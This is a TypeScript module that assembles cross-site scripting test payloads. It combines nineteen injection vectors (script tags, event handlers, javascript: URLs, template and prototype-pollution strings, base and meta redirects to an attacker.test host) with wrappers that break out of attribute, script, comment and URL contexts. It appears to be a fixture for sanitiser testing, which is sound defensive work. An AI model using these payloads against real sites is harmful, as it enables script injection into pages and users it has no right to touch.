/** If a page takes one of these texts for more than text, the text sets `window.pwned` or harms the page. */
const vectors = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:window.pwned=1">x</a>',
  'javascript:window.pwned=1',
  '<details open ontoggle=window.pwned=1>',
  '<math><mtext><script>window.pwned=1</script></mtext></math>',
  '<style>*{background:url("javascript:window.pwned=1")}</style>',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '<base href="https://attacker.test/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.test/">',
  '<form id=root><input name=innerHTML></form>',
  '<template><script>window.pwned=1</script></template>',
  '<object data="data:text/html,<script>parent.pwned=1</script>">',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '\u202e<script>window.pwned=1</script>',
  '__proto__[pwned]=1',
]

/** A page may put a text into such a place. The wrapper closes the place, so that the rest of the text becomes code. */
const wrappers: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</title></textarea>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `%22%3E${encodeURIComponent(vector)}`,
  (vector) => `\\u003c/script>${vector}\\"`,
]

export const payloads = wrappers.flatMap((wrap) => vectors.map(wrap))
